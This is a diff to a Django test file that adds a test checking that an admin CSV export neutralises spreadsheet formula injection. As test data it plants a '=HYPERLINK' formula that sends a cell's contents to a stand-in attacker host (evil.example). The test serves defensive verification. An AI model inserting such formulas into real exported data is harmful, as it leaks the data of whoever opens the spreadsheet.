@@ -1,5 +1,7 @@
 from __future__ import annotations
 
+import csv
+import io
 import re
 
 import pytest
@@ -9,7 +11,7 @@ from django.utils import translation
 
 from municipalities.models import Organisation, OrganisationKind, Region
 from tests.factories.accounts import UserFactory
-from tests.factories.municipalities import registry_load
+from tests.factories.municipalities import OrganisationFactory, registry_load
 
 CHANGELIST = "admin:municipalities_organisation_changelist"
 
@@ -142,3 +144,17 @@ def test_admin_csv_export_has_the_dla_codes(admin_client, registry):
 
     assert response.status_code == 200
     assert "3500102" in response.content.decode()
+
+
+def test_admin_csv_export_escapes_formulae(admin_client, registry):
+    Organisation.objects.filter(dla_code="3500102").update(name_en="@SUM(A1:A9)")
+    OrganisationFactory(dla_code=None, name_th='=HYPERLINK("http://evil.example/"&A1)')
+    response = admin_client.post(
+        reverse("admin:municipalities_organisation_export"),
+        {"format": "0", "resource": "0", **{f"organisationresource_{f}": "on" for f in
+         ("dla_code", "name_th", "name_en")}},
+    )  # fmt: skip
+
+    cells = {c for row in csv.reader(io.StringIO(response.content.decode())) for c in row}
+    assert {"'@SUM(A1:A9)", '\'=HYPERLINK("http://evil.example/"&A1)'} <= cells
+    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in cells)
